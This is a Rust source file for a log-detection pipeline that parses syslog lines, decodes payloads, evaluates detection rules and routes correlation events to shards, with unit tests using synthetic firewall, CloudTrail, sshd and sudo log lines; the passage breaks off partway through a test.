//! From a received line to detections: parse, extract, evaluate stateless
//! rules, and place what stateful detectors want on shards.
//!
//! This is the one code path for a line, shared by the streaming server and
//! by `shardwatch replay`, which is why the two raise the same alerts. What
//! happens to the results is up to the [`EventSink`]: the server sends routed
//! records to their owner core, replay hands them to its single shard set.
//!
//! Per line this does no heap allocation once warm: the parsed message and
//! its fields borrow from the line, and every buffer here is reused.

use std::sync::Arc;

use shardwatch_net::decode::HeaderVendor;
use shardwatch_net::fields::Fields;
use shardwatch_net::syslog::{ParseContext, SyslogMessage};
use shardwatch_net::{DecodeScratch, Decoder};
use shardwatch_rules::{Event, RuleSet, Scratch, TemplateMiner};

use crate::normalize::{AliasShapes, Aliases};
use crate::route::RouteRecord;
use crate::schema::{SchemaRegistry, SourceId, SourceKey};
use crate::shardmap::ShardMap;

/// Where the results of one line go.
pub trait EventSink {
    /// The line could not be accepted; `reason` is a stable snake_case name.
    fn quarantine(&mut self, reason: &'static str, offset: Option<usize>, raw: &[u8]);
    /// A standalone detection rule matched this event.
    fn detection(&mut self, detection: u32, event: &Event<'_>, received_ns: i64);
    /// A correlation wants this event; `owner` is the core owning the shard.
    fn route(&mut self, record: &RouteRecord<'_>, owner: u16);
    /// The line was accepted but something about it is worth counting
    /// (`timestamp_skew`, `fields_overflow`, or a decode issue such as
    /// `json_too_deep`). Nothing is dropped.
    fn flagged(&mut self, _reason: &'static str) {}
    /// The line was finished from its syslog header alone: no rule could
    /// see it, so its payload was not decoded.
    fn without_payload(&mut self) {}
}

/// The schema registry's bounds and sampling (`[schemas]`).
#[derive(Debug, Clone, Copy)]
pub struct SchemaOptions {
    pub sources_max: usize,
    pub fields_max: usize,
    /// One event of a known field set in this many is observed in full.
    pub sample_every: u64,
}

/// Options of a pipeline beyond rules and shard map.
pub struct PipelineOptions {
    pub default_utc_offset_s: i32,
    /// Events whose time is further than this from their receive time are
    /// flagged (`event.time_skewed: true`) and counted.
    pub timestamp_skew_max_ns: i64,
    pub aliases: Arc<Aliases>,
    /// Keep a schema registry of what this pipeline sees.
    pub schemas: Option<SchemaOptions>,
    /// When to mine log templates (`template.id`, `template.text`,
    /// `template.new` on every event).
    pub templates: TemplatesMode,
    /// Per sending host, the timezone (seconds east of UTC) of timestamps
    /// that carry none.
    pub timezones: std::collections::HashMap<Vec<u8>, i32>,
    /// Quarantine lines without a syslog header.
    pub require_header: bool,
    /// Decode every line's payload, even when its header rules out every
    /// detection (`ingest.decode_all_payloads`).
    pub decode_all_payloads: bool,
    /// Whether `process`'s receive times are when lines arrived (live),
    /// so the schema registry records each source's clock lag; not in a
    /// replay, whose receive times are when the file was read.
    pub receive_times_are_arrivals: bool,
}

/// When the per-core template miner runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TemplatesMode {
    /// Only while the rule set has a `rare_template` anomaly rule: mining
    /// costs ~200 ns per event, paid only when something uses it.
    Auto,
    On,
    Off,
}

/// One mined template, copied out of the miner so that the miner itself is
/// not lent to the event's fields (two mining sites, one per mode, must not
/// hold it at once).
#[derive(Default)]
struct MinedTemplate {
    text: Vec<u8>,
    hex: [u8; 16],
    new_template: bool,
}

impl MinedTemplate {
    /// Mines `message` into this buffer; false when no miner runs.
    fn mine(&mut self, miner: &mut Option<TemplateMiner>, message: &[u8]) -> bool {
        let Some(miner) = miner.as_mut() else {
            return false;
        };
        let found = miner.mine(message);
        self.text.clear();
        self.text.extend_from_slice(found.text.as_bytes());
        self.hex = found.id_hex();
        self.new_template = found.new_template;
        true
    }

    /// Adds `template.text`, `template.new` and `template.id` to `fields`.
    fn push_into<'a>(&'a self, fields: &mut Fields<'a>) {
        fields.push("template.text", &self.text);
        fields.push(
            "template.new",
            if self.new_template { b"true" } else { b"false" },
        );
        fields.push("template.id", &self.hex);
    }
}

/// Per detection, whether one of its consumers is a rare_template rule.
/// A rare_template rule always has a detection input (anomaly rules cannot
/// take correlations), so "any true" is also "the rules need templates".
fn template_feeds(rules: &RuleSet) -> Vec<bool> {
    (0..rules.detection_count())
        .map(|d| {
            rules.consumers(d as u32).iter().any(|&c| {
                rules.correlation(c as usize).kind
                    == shardwatch_rules::CorrelationKind::RareTemplate
            })
        })
        .collect()
}

impl Default for PipelineOptions {
    fn default() -> Self {
        PipelineOptions {
            default_utc_offset_s: 0,
            timestamp_skew_max_ns: 86_400 * 1_000_000_000,
            aliases: Arc::new(Aliases::new(true, &Default::default())),
            schemas: None,
            templates: TemplatesMode::Auto,
            timezones: Default::default(),
            require_header: false,
            decode_all_payloads: false,
            receive_times_are_arrivals: true,
        }
    }
}

/// Reusable per-core state for processing lines.
pub struct Pipeline {
    rules: Arc<RuleSet>,
    map: Arc<ShardMap>,
    default_utc_offset_s: i32,
    timestamp_skew_max_ns: i64,
    aliases: Arc<Aliases>,
    registry: Option<SchemaRegistry>,
    decode: DecodeScratch,
    timezones: std::collections::HashMap<Vec<u8>, i32>,
    require_header: bool,
    decode_all_payloads: bool,
    receive_times_are_arrivals: bool,
    templates_mode: TemplatesMode,
    miner: Option<TemplateMiner>,
    /// Per detection: does it feed a rare_template rule (then its matches
    /// are mined in `auto` mode)?
    template_feeds: Vec<bool>,
    /// Templates mined before the stateless pass (`on`) and after it
    /// (`auto`); two buffers because each is lent to the event's fields.
    mined_before: MinedTemplate,
    mined_after: MinedTemplate,
    scratch: Scratch,
    /// The alias pass for recent sequences of field names.
    alias_shapes: AliasShapes,
    matched: Vec<u32>,
    correlations: Vec<u32>,
    key: Vec<u8>,
}

impl Pipeline {
    pub fn new(rules: Arc<RuleSet>, map: Arc<ShardMap>, options: PipelineOptions) -> Self {
        let feeds = template_feeds(&rules);
        let miner = match options.templates {
            TemplatesMode::On => Some(TemplateMiner::default()),
            TemplatesMode::Off => None,
            TemplatesMode::Auto => feeds.iter().any(|&f| f).then(TemplateMiner::default),
        };
        Pipeline {
            rules,
            map,
            default_utc_offset_s: options.default_utc_offset_s,
            timestamp_skew_max_ns: options.timestamp_skew_max_ns,
            aliases: options.aliases,
            registry: options.schemas.map(|o| {
                SchemaRegistry::new(o.sources_max, o.fields_max).with_sample_every(o.sample_every)
            }),
            decode: DecodeScratch::new(),
            timezones: options.timezones,
            require_header: options.require_header,
            decode_all_payloads: options.decode_all_payloads,
            receive_times_are_arrivals: options.receive_times_are_arrivals,
            miner,
            templates_mode: options.templates,
            template_feeds: feeds,
            mined_before: MinedTemplate::default(),
            mined_after: MinedTemplate::default(),
            scratch: Scratch::default(),
            alias_shapes: AliasShapes::default(),
            matched: Vec::with_capacity(64),
            correlations: Vec::with_capacity(64),
            key: Vec::with_capacity(256),
        }
    }

    pub fn rules(&self) -> &Arc<RuleSet> {
        &self.rules
    }

    /// The schema registry, when this pipeline keeps one.
    pub fn registry(&self) -> Option<&SchemaRegistry> {
        self.registry.as_ref()
    }

    /// Swaps in a new rule set (a reload); takes effect from the next line.
    /// In `auto` mode the template miner starts or stops with it (a miner
    /// that keeps running keeps what it learned).
    pub fn set_rules(&mut self, rules: Arc<RuleSet>) {
        let feeds = template_feeds(&rules);
        if self.templates_mode == TemplatesMode::Auto {
            match (feeds.iter().any(|&f| f), self.miner.is_some()) {
                (true, false) => self.miner = Some(TemplateMiner::default()),
                (false, true) => self.miner = None,
                _ => {}
            }
        }
        self.template_feeds = feeds;
        self.rules = rules;
    }

    /// The template miner, when one runs.
    pub fn miner(&self) -> Option<&TemplateMiner> {
        self.miner.as_ref()
    }

    /// The event time of a line with header `message`: its timestamp, read
    /// in its host's timezone where `timezones` (`ingest.timezones`) gives
    /// one (the header parsed again with that zone), else the receive time.
    fn event_time(
        timezones: &std::collections::HashMap<Vec<u8>, i32>,
        default_utc_offset_s: i32,
        message: &SyslogMessage<'_>,
        raw: &[u8],
        received_ns: i64,
    ) -> i64 {
        let mut time_ns = message.timestamp_ns.unwrap_or(received_ns);
        // A host with its own timezone: parse the header again with that
        // zone (only for configured hosts, and only the header).
        if let Some(&offset_s) = message.hostname.and_then(|host| timezones.get(host)) {
            if offset_s != default_utc_offset_s {
                let ctx = ParseContext {
                    now_ns: received_ns,
                    default_offset_s: offset_s,
                };
                if let Ok(again) = shardwatch_net::syslog::parse(raw, &ctx) {
                    time_ns = again.timestamp_ns.unwrap_or(time_ns);
                }
            }
        }
        time_ns
    }

    /// Finishes a line (event time `time_ns`) from its header alone when
    /// nothing needs its payload: no loaded detection's log source can
    /// admit its header, nor an open keyword rule its message
    /// ([`RuleSet::may_match_header`]; then no correlation, anomaly rule
    /// or template feed sees it either), the template miner does not mine
    /// every line, and the schema registry (if kept) does not check this
    /// event's fields and can tell its source without the decode (a CEF
    /// line's from its header; a LEEF line's only from the payload). Returns the event time, or `None` when the
    /// line must be decoded (`ingest.decode_all_payloads` forces that);
    /// then nothing was counted or flagged. `host_app` is the registry's
    /// key of the header's source (`None` when no registry is kept).
    /// With the built-in pack, 40% of the load harness's lines take this
    /// path (BENCHMARKS.md, 2026-12-06).
    fn without_payload(
        &mut self,
        raw: &[u8],
        header: &SyslogMessage<'_>,
        host_app: Option<SourceKey>,
        time_ns: i64,
        received_ns: i64,
        sink: &mut impl EventSink,
    ) -> Option<i64> {
        if self.decode_all_payloads
            || self.templates_mode == TemplatesMode::On
            || self.rules.may_match_header(
                &shardwatch_net::header_parts(header),
                header.message,
                raw,
                &mut self.scratch,
            )
        {
            return None;
        }
        if let (Some(registry), Some(host_app)) = (self.registry.as_mut(), host_app) {
            // A CEF line counts under its vendor's source, read from its
            // header; any other vendor line is decoded.
            let key = match shardwatch_net::decode::header_vendor(header.message) {
                HeaderVendor::Header => host_app,
                HeaderVendor::Cef(vendor) => {
                    SourceId::Vendor("cef", vendor.vendor, vendor.product).key()
                }
                HeaderVendor::Undecided => return None,
            };
            if !registry.count_without_fields(key, time_ns) {
                return None;
            }
        }
        if (time_ns - received_ns).abs() > self.timestamp_skew_max_ns {
            sink.flagged("timestamp_skew");
        }
        sink.without_payload();
        Some(time_ns)
    }

    /// Processes one line. Returns the event time, or None when the line
    /// was quarantined.
    pub fn process(
        &mut self,
        raw: &[u8],
        received_ns: i64,
        sink: &mut impl EventSink,
    ) -> Option<i64> {
        let ctx = ParseContext {
            now_ns: received_ns,
            default_offset_s: self.default_utc_offset_s,
        };
        // Borrowed, not moved out of the result: the header is about 200
        // bytes, and the move was a `memcpy` call of every line.
        let parsed_header = shardwatch_net::syslog::parse(raw, &ctx);
        let header = match &parsed_header {
            Ok(header) => header,
            Err(err) => {
                sink.quarantine(err.reason.as_str(), Some(err.offset), raw);
                return None;
            }
        };
        if self.require_header && header.format == shardwatch_net::syslog::Format::Plain {
            sink.quarantine("missing_header", Some(0), raw);
            return None;
        }
        let time_ns = Self::event_time(
            &self.timezones,
            self.default_utc_offset_s,
            header,
            raw,
            received_ns,
        );
        // The schema registry's key for the header's source, its slot
        // fetched from memory while the gate and the decode run (most
        // lines' source; a CEF or LEEF line's is its vendor's).
        let host_app = self.registry.as_ref().map(|registry| {
            let source = SourceId::HostApp(
                header.hostname.unwrap_or(b"-"),
                header.app_name.or(header.cisco_mnemonic).unwrap_or(b"-"),
            );
            let key = source.key();
            registry.prefetch(key);
            (source, key)
        });
        if let Some(time_ns) = self.without_payload(
            raw,
            header,
            host_app.map(|(_, key)| key),
            time_ns,
            received_ns,
            sink,
        ) {
            return Some(time_ns);
        }
        let mut fields = Fields::new();
        let parsed = shardwatch_net::extract_payload(raw, header, &mut self.decode, &mut fields);
        if let Some(issue) = parsed.issue {
            sink.flagged(issue.as_str());
        }
        // The schema registry counts the event after the rules have run;
        // its slot for the source is fetched from memory meanwhile (the
        // header's source's already is).
        let schema_source =
            self.registry
                .as_ref()
                .zip(host_app)
                .map(
                    |(registry, host_app)| match (parsed.source, parsed.decoder) {
                        (Some(source), decoder) => {
                            let kind = if decoder == Some(Decoder::Leef) {
                                "leef"
                            } else {
                                "cef"
                            };
                            let source = SourceId::Vendor(kind, source.vendor, source.product);
                            let key = source.key();
                            registry.prefetch(key);
                            (source, key)
                        }
                        (None, _) => host_app,
                    },
                );
        // Structured payloads carry vendor names; give rules the common
        // names beside them. Free-text rows already emit common names.
        let alias_shape = if matches!(
            parsed.decoder,
            Some(
                Decoder::Json
                    | Decoder::Xml
                    | Decoder::Cef
                    | Decoder::Leef
                    | Decoder::Kv
                    | Decoder::Csv
            )
        ) {
            self.aliases
                .apply_with_shapes(&mut fields, &mut self.alias_shapes)
        } else {
            None
        };
        // `on`: every line is mined before the rules see it, so any rule may
        // use template fields. `auto`: only lines that a rare_template rule's
        // input selects are mined, after the stateless pass (below).
        let have_miner = self.miner.is_some();
        let mut mined = false;
        if self.templates_mode == TemplatesMode::On
            && self.mined_before.mine(&mut self.miner, header.message)
        {
            mined = true;
            self.mined_before.push_into(&mut fields);
        }
        if (time_ns - received_ns).abs() > self.timestamp_skew_max_ns {
            fields.push("event.time_skewed", b"true");
            sink.flagged("timestamp_skew");
        }
        if fields.overflow > 0 {
            sink.flagged("fields_overflow");
        }
        let mut event = Event {
            time_ns,
            fields: fields.as_slice(),
            message: header.message,
            raw,
        };
        // An event whose names the alias pass knew, with nothing added
        // after it, has the names of the last such event: the rules index
        // it from that event's shape without reading a name.
        let known = alias_shape.and_then(|at| self.alias_shapes.index_key(at, fields.len()));
        let key = self
            .rules
            .evaluate_shaped(&event, known, &mut self.scratch, &mut self.matched);
        if let Some(at) = alias_shape {
            if key != known {
                self.alias_shapes.set_index_key(at, fields.len(), key);
            }
        }
        if let (Some(registry), Some((source, key))) = (self.registry.as_mut(), schema_source) {
            let received = self.receive_times_are_arrivals.then_some(received_ns);
            registry.observe_keyed(key, source, fields.as_slice(), time_ns, received);
        }
        if self.matched.is_empty() {
            return Some(event.time_ns);
        }
        if !mined
            && have_miner
            && self.matched.iter().any(|&d| {
                self.template_feeds
                    .get(d as usize)
                    .copied()
                    .unwrap_or(false)
            })
        {
            let time_ns = event.time_ns;
            if self.mined_after.mine(&mut self.miner, header.message) {
                self.mined_after.push_into(&mut fields);
            }
            event = Event {
                time_ns,
                fields: fields.as_slice(),
                message: header.message,
                raw,
            };
        }
        for &detection in &self.matched {
            if self.rules.detection(detection as usize).standalone {
                sink.detection(detection, &event, received_ns);
            }
        }
        // Two base rules of one correlation may both match; the event still
        // counts once for that correlation.
        self.rules
            .correlations_fed(&self.matched, &mut self.correlations);
        // Input masks look rules up by binary search.
        self.matched.sort_unstable();
        for &correlation in &self.correlations {
            self.rules.group_key_for(
                correlation,
                &self.matched,
                &event,
                &self.scratch,
                &mut self.key,
            );
            let (shard, owner) = self.map.place(&self.key);
            let record = RouteRecord {
                shard,
                rule_hash: self.rules.correlation(correlation as usize).hash,
                input_mask: self.rules.input_mask(correlation, &self.matched),
                time_ns: event.time_ns,
                received_ns,
                key: &self.key,
                value: self.rules.correlation_value(
                    correlation,
                    &self.matched,
                    &event,
                    &self.scratch,
                ),
                raw,
            };
            sink.route(&record, owner);
        }
        Some(event.time_ns)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An event's fields, owned.
    type OwnedFields = Vec<(String, Vec<u8>)>;

    /// Detections per line, and what else the sink was told.
    #[derive(Default)]
    struct Seen {
        detections: Vec<(u32, OwnedFields)>,
        other: Vec<String>,
        without_payload: usize,
    }

    impl EventSink for Seen {
        fn quarantine(&mut self, reason: &'static str, _offset: Option<usize>, _raw: &[u8]) {
            self.other.push(format!("quarantine {reason}"));
        }
        fn detection(&mut self, detection: u32, event: &Event<'_>, _received_ns: i64) {
            let fields = event
                .fields
                .iter()
                .map(|(n, v)| (n.to_string(), v.to_vec()))
                .collect();
            self.detections.push((detection, fields));
        }
        fn route(&mut self, record: &RouteRecord<'_>, owner: u16) {
            self.other.push(format!("route {owner} {:?}", record.key));
        }
        fn flagged(&mut self, reason: &'static str) {
            self.other.push(format!("flagged {reason}"));
        }
        fn without_payload(&mut self) {
            self.without_payload += 1;
        }
    }

    /// A pipeline over the rules in `yaml` (one file) with `options`.
    fn pipeline_with(yaml: &str, options: PipelineOptions) -> Pipeline {
        let rules = RuleSet::compile(&[shardwatch_rules::RuleSource {
            origin: "test".into(),
            text: yaml.into(),
        }])
        .unwrap();
        Pipeline::new(Arc::new(rules), Arc::new(ShardMap::new(1, 64, 1)), options)
    }

    fn pipeline() -> Pipeline {
        pipeline_with(
            r#"title: from a watched address
name: watched
detection:
    sel:
        source.ip|startswith: '10.0.'
    condition: sel
---
title: bob or a CloudTrail call
name: bob
detection:
    user:
        user.name: bob
    cloud:
        event.dataset: aws.cloudtrail
    condition: user or cloud
---
title: many from one address
correlation:
    type: event_count
    rules: [bob]
    group-by: [source.ip]
    timespan: 10s
    condition:
        gte: 2
"#,
            PipelineOptions::default(),
        )
    }

    /// Lines of a few shapes, each many times with other values: CEF and
    /// key=value (aliased), CloudTrail JSON (dataset markers, admitted or
    /// not), a CEF line of the same shape skewed in time (a field added
    /// after the alias pass), and free text.
    fn lines() -> Vec<String> {
        let mut lines = Vec::new();
        for i in 0..60u32 {
            let ip = if i % 3 == 0 {
                "10.0.0.1"
            } else {
                "192.168.1.9"
            };
            let user = if i % 4 == 0 { "bob" } else { "ann" };
            lines.push(format!(
                "<134>Nov 30 00:00:{:02} fw-1 CEF:0|V|P|1|100|n|3|src={ip} dst=10.9.9.9 suser={user} act=allow",
                i % 60
            ));
            lines.push(format!(
                "<4>Nov 30 00:00:{:02} gw kernel: IN=eth0 OUT= SRC={ip} DST=10.1.1.{} PROTO=TCP SPT=1 DPT=22",
                i % 60,
                i % 7
            ));
            let source = if i % 5 == 0 {
                "iam.amazonaws.com"
            } else {
                "elsewhere"
            };
            lines.push(format!(
                r#"<14>Nov 30 00:00:{:02} aws cloudtrail: {{"eventVersion":"1.08","eventSource":"{source}","sourceIPAddress":"{ip}","userIdentity":{{"userName":"{user}"}}}}"#,
                i % 60
            ));
            if i % 10 == 0 {
                lines.push(format!(
                    "<134>Nov  1 00:00:00 fw-1 CEF:0|V|P|1|100|n|3|src={ip} dst=10.9.9.9 suser={user} act=deny"
                ));
            }
            lines.push(format!(
                "<38>Nov 30 00:00:{:02} h sshd[1]: Failed password for {user} from {ip} port 22 ssh2",
                i % 60
            ));
        }
        lines
    }

    /// The names the rules crate's header gate reads are the names the
    /// parser gives the header's parts.
    #[test]
    fn the_header_gate_reads_the_parsers_header_names() {
        assert_eq!(
            shardwatch_rules::HEADER_FIELDS,
            shardwatch_net::HEADER_FIELD_NAMES
        );
    }

    /// A pipeline whose rules all read sshd or sudo lines (a detection, a
    /// correlation over it, one keyed on a host), keeping schemas.
    /// A schema registry kept as the tests of the header gate keep it.
    /// A pipeline over `rules` that finishes lines no rule can see from
    /// their header, and one that decodes every payload, otherwise alike
    /// (`options` gives the rest).
    fn gated_and_full(
        rules: &Arc<RuleSet>,
        options: impl Fn() -> PipelineOptions,
    ) -> (Pipeline, Pipeline) {
        let pipeline = |decode_all_payloads| {
            Pipeline::new(
                rules.clone(),
                Arc::new(ShardMap::new(1, 64, 1)),
                PipelineOptions {
                    decode_all_payloads,
                    ..options()
                },
            )
        };
        (pipeline(false), pipeline(true))
    }

    fn kept_schemas() -> Option<SchemaOptions> {
        Some(SchemaOptions {
            sources_max: 100,
            fields_max: 100,
            sample_every: 64,
        })
    }

    fn sourced_pipeline(decode_all_payloads: bool) -> Pipeline {
        pipeline_with(
            r#"title: failed password
name: failed
logsource:
    product: linux
    service: sshd
detection:
    sel:
        - 'Failed password'
    condition: sel
---
title: sudo by bob
logsource:
    product: linux
    service: sudo
detection:
    sel:
        user.name: bob
    condition: sel
---
title: many failures from one address
correlation:
    type: event_count
    rules: [failed]
    group-by: [source.ip]
    timespan: 10s
    condition:
        gte: 2
"#,
            PipelineOptions {
                schemas: kept_schemas(),
                decode_all_payloads,
                ..PipelineOptions::default()
            },
        )
    }

    /// Runs `corpus` through `gated` and `full` (which decodes every
    /// payload): the same result per line, the same detections and other
    /// sink calls, no line of `full`'s finished from its header and more
    /// than `skipped_min` of `gated`'s. `each` gets every line and the
    /// detections `gated` raised for it. Returns what `gated` gave.
    fn gated_agrees_with_full(
        gated: &mut Pipeline,
        full: &mut Pipeline,
        corpus: &[String],
        skipped_min: usize,
        mut each: impl FnMut(&str, usize),
    ) -> Seen {
        let received_ns: i64 = 1_796_000_000_000_000_000;
        let (mut seen_gated, mut seen_full) = (Seen::default(), Seen::default());
        for line in corpus {
            let before = seen_gated.detections.len();
            let a = gated.process(line.as_bytes(), received_ns, &mut seen_gated);
            let b = full.process(line.as_bytes(), received_ns, &mut seen_full);
            assert_eq!(a, b, "{line}");
            each(line, seen_gated.detections.len() - before);
        }
        assert_eq!(seen_gated.detections, seen_full.detections);
        assert_eq!(seen_gated.other, seen_full.other);
        assert_eq!(seen_full.without_payload, 0);
        assert!(
            seen_gated.without_payload > skipped_min,
            "{} of {} lines",
            seen_gated.without_payload,
            corpus.len()
        );
        seen_gated
    }

    /// Lines no rule above can see are finished from their header, and
    /// that changes nothing the rules or the sink see: the same
    /// detections, routes, quarantines and flags (a skewed line no rule
    /// sees is still flagged), the same event times, the same events per
    /// schema source, and no field name the full decode would not give.
    /// CEF lines with a process name are decoded too when schemas are kept
    /// (their source is in the payload), as are lines with no process name
    /// and sshd/sudo lines.
    #[test]
    fn lines_no_rule_can_see_skip_their_payload_and_nothing_else_changes() {
        let mut corpus = lines();
        // The same host and program send plain lines too: its CEF lines
        // must still count under the vendor's source, not this one.
        corpus.insert(0, "<134>Nov 30 00:00:00 fw-2 asa: link up".to_string());
        for i in 0..80u32 {
            corpus.push(format!(
                "<78>Nov 30 00:01:{:02} h CRON[{i}]: (root) CMD (run-parts /etc/cron.hourly)",
                i % 60
            ));
            corpus.push(format!(
                "<85>Nov 30 00:01:{:02} h sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
                i % 60
            ));
            corpus.push(format!(
                "<14>Nov 30 00:01:{:02} web nginx: {{\"status\":{},\"path\":\"/a\",\"ip\":\"10.0.0.{}\"}}",
                i % 60,
                200 + i % 3,
                i % 9
            ));
            corpus.push(format!("no header at all, line {i}"));
            corpus.push(format!(
                "<134>Nov 30 00:01:{:02} fw-2 asa: CEF:0|V|Q|1|100|n|3|src=10.0.0.{} act=deny",
                i % 60,
                i % 5
            ));
            corpus.push(format!(
                "<14>1 2026-11-30T00:01:{:02}Z h app 1 - [m@1 k=\"v{i}\"] text",
                i % 60
            ));
        }
        corpus.push("<14>Nov  1 00:00:00 h cron: skewed and unseen".to_string());
        corpus.push("<14>Nov 30 00:02:00 h cron: \u{0}".to_string());
        let mut gated = sourced_pipeline(false);
        let mut full = sourced_pipeline(true);
        let seen_gated = gated_agrees_with_full(&mut gated, &mut full, &corpus, 250, |_, _| {});
        // sudo by bob on every sudo line; the failures feed the
        // correlation (routed), not alerts of their own.
        assert_eq!(seen_gated.detections.len(), 80);
        assert!(
            seen_gated
                .other
                .iter()
                .filter(|o| o.starts_with("route"))
                .count()
                >= 60
        );
        assert!(seen_gated
            .other
            .iter()
            .any(|o| o.starts_with("flagged timestamp_skew")));
        let schemas = |p: &Pipeline| p.registry().expect("kept").snapshot();
        let (a, b) = (schemas(&gated), schemas(&full));
        assert_eq!(
            a.iter().map(|s| (&s.source, s.events)).collect::<Vec<_>>(),
            b.iter().map(|s| (&s.source, s.events)).collect::<Vec<_>>()
        );
        for (a, b) in a.iter().zip(&b) {
            assert!(
                a.fields.keys().all(|name| b.fields.contains_key(name)),
                "{}: {:?} against {:?}",
                a.source,
                a.fields.keys(),
                b.fields.keys()
            );
        }
    }

    /// A line whose header names no program is finished from its header
    /// when its text holds no name its payload could give `process.name`
    /// under (the name itself, `sproc`, a configured alias): then no
    /// decoder can make the field a `service: sshd` log source reads. A
    /// line that could name one, however it is written (a JSON path, a
    /// JSON key escaped with `\u`, key=value, a CEF key or label, an RFC
    /// 5424 parameter aliased in the config), is decoded and alerts as
    /// when every payload is decoded; the schema registry counts a
    /// skipped CEF line under its vendor, from its header.
    #[test]
    fn lines_without_a_program_skip_their_payload_unless_it_could_name_one() {
        let overrides: std::collections::BTreeMap<String, String> = [
            ("sd.meta.prog", "process.name"),
            ("sd.meta.user", "user.name"),
        ]
        .into_iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
        let options = shardwatch_rules::CompileOptions {
            payload_naming: Some(crate::normalize::payload_naming(true, &overrides)),
            ..Default::default()
        };
        let (rules, errors) = RuleSet::compile_with(
            &[shardwatch_rules::RuleSource {
                origin: "test".into(),
                text: r#"title: root over ssh
logsource:
    product: linux
    service: sshd
detection:
    sel:
        user.name: root
    condition: sel
"#
                .into(),
            }],
            &options,
        );
        assert!(errors.is_empty(), "{errors:?}");
        assert!(rules.header_gate_blocker().is_none());
        let rules = Arc::new(rules);
        let aliases = Arc::new(Aliases::new(true, &overrides));
        let (mut gated, mut full) = gated_and_full(&rules, || PipelineOptions {
            aliases: aliases.clone(),
            schemas: kept_schemas(),
            ..PipelineOptions::default()
        });
        let naming = [
            r#"<14>Nov 30 00:00:01 h {"process":{"name":"sshd"},"user":{"name":"root"}}"#,
            r#"<14>Nov 30 00:00:02 h {"\u0070rocess.name":"sshd","user.name":"root"}"#,
            r#"<14>Nov 30 00:00:03 h process.name=sshd user.name=root x=1"#,
            r#"<134>Nov 30 00:00:04 fw CEF:0|V|P|1|2|n|3|sproc=sshd suser=root"#,
            r#"<134>Nov 30 00:00:05 fw CEF:0|V|P|1|2|n|3|cs1Label=process.name cs1=sshd suser=root"#,
            r#"<14>1 2026-11-30T00:00:06Z h - - - [meta prog="sshd" user="root"] a=1 b=2"#,
        ];
        let mut corpus = Vec::new();
        for i in 0..40u32 {
            let s = i % 60;
            corpus.push(format!(
                r#"<189>Nov 30 00:01:{s:02} fgt devname="fgt" srcip=10.0.0.{i} user="root" action="accept""#
            ));
            corpus.push(format!(
                "<134>Nov 30 00:01:{s:02} fw CEF:0|Palo Alto|PAN-OS|10|T|end|3|src=10.0.0.{i} suser=root act=allow"
            ));
            // An escaped vendor: the registry's source needs the decode.
            corpus.push(format!(
                "<134>Nov 30 00:01:{s:02} fw CEF:0|Pa\\|lo|X|10|T|end|3|src=10.0.0.{i} suser=root"
            ));
            corpus.push(format!(
                "<14>Nov 30 00:01:{s:02} h <Event><process><name>sshd</name></process><user>root</user></Event>"
            ));
            corpus.push(naming[i as usize % naming.len()].to_string());
        }
        let seen_gated = gated_agrees_with_full(&mut gated, &mut full, &corpus, 60, |line, n| {
            if naming.contains(&line) {
                assert_eq!(n, 1, "{line}");
            }
        });
        assert_eq!(seen_gated.detections.len(), 40);
        // Of the 80 firewall lines, the registry observes the first of
        // each source in full (then one in 64); the others are skipped.
        assert!(
            seen_gated.without_payload >= 78,
            "{}",
            seen_gated.without_payload
        );
        let schemas = |p: &Pipeline| p.registry().expect("kept").snapshot();
        let (a, b) = (schemas(&gated), schemas(&full));
        assert_eq!(
            a.iter().map(|s| (&s.source, s.events)).collect::<Vec<_>>(),
            b.iter().map(|s| (&s.source, s.events)).collect::<Vec<_>>()
        );
        assert!(
            a.iter().any(|s| s.source == "cef:Palo Alto/PAN-OS"),
            "{a:?}"
        );
    }

    /// A detection without a log source that needs payload fields (the
    /// harness's netfilter rule) sees only lines that hold one of the
    /// names each field could be given under: other lines skip their
    /// decode, and every line alerts as with every payload decoded. A
    /// detection that can match without any field keeps every line
    /// decoded.
    #[test]
    fn lines_without_a_needed_fields_name_skip_their_payload() {
        let compile = |text: &str| {
            let options = shardwatch_rules::CompileOptions {
                payload_naming: Some(crate::normalize::payload_naming(true, &Default::default())),
                ..Default::default()
            };
            let (rules, errors) = RuleSet::compile_with(
                &[shardwatch_rules::RuleSource {
                    origin: "test".into(),
                    text: text.into(),
                }],
                &options,
            );
            assert!(errors.is_empty(), "{errors:?}");
            rules
        };
        let packets = r#"title: packet
detection:
    sel:
        IN|exists: true
        SRC|exists: true
        DPT|exists: true
    condition: sel
---
title: high port
detection:
    a:
        SPT|gt: 1024
    b:
        PROTO: ICMP
    condition: a or b
"#;
        let rules = compile(packets);
        assert!(
            rules.header_gate_blocker().is_none(),
            "{:?}",
            rules.header_gate_blocker()
        );
        for open in [
            "    sel:\n        DPT|exists: false\n    condition: sel",
            "    sel:\n        DPT: 22\n    condition: not sel",
            "    sel:\n        DPT:\n            - 22\n            - null\n    condition: sel",
            "    sel:\n        User|exists: true\n    condition: sel",
            "    sel:\n        DestinationPort|gt: 1024\n    condition: sel",
        ] {
            let text = format!("title: open\ndetection:\n{open}\n");
            assert!(compile(&text).header_gate_blocker().is_some(), "{text}");
        }
        let rules = Arc::new(rules);
        let (mut gated, mut full) = gated_and_full(&rules, || PipelineOptions {
            aliases: Arc::new(Aliases::new(true, &Default::default())),
            ..PipelineOptions::default()
        });
        // Lines that hold a needed field's name, and how many alerts each
        // raises (field names are case-sensitive: CEF's `dpt` is not
        // `DPT`, though the line is decoded for it).
        let naming = [
            ("<4>Nov 30 00:00:01 gw kernel: [1.2] IN=eth0 OUT= SRC=10.0.0.1 DST=10.0.0.2 PROTO=TCP SPT=1 DPT=22", 1),
            (r#"<14>Nov 30 00:00:02 h {"IN":"eth0","SRC":"10.0.0.1","\u0044PT":"22"}"#, 1),
            (r#"<14>Nov 30 00:00:03 h {"pkt":{"IN":"eth0","SRC":"1.1.1.1","DPT":"80","SPT":"40000"}}"#, 2),
            ("<134>Nov 30 00:00:04 fw CEF:0|V|P|1|2|n|3|dpt=8080 src=1.1.1.1", 0),
            ("<134>Nov 30 00:00:04 fw CEF:0|V|P|1|2|n|3|IN=x SRC=1.1.1.1 DPT=8080", 1),
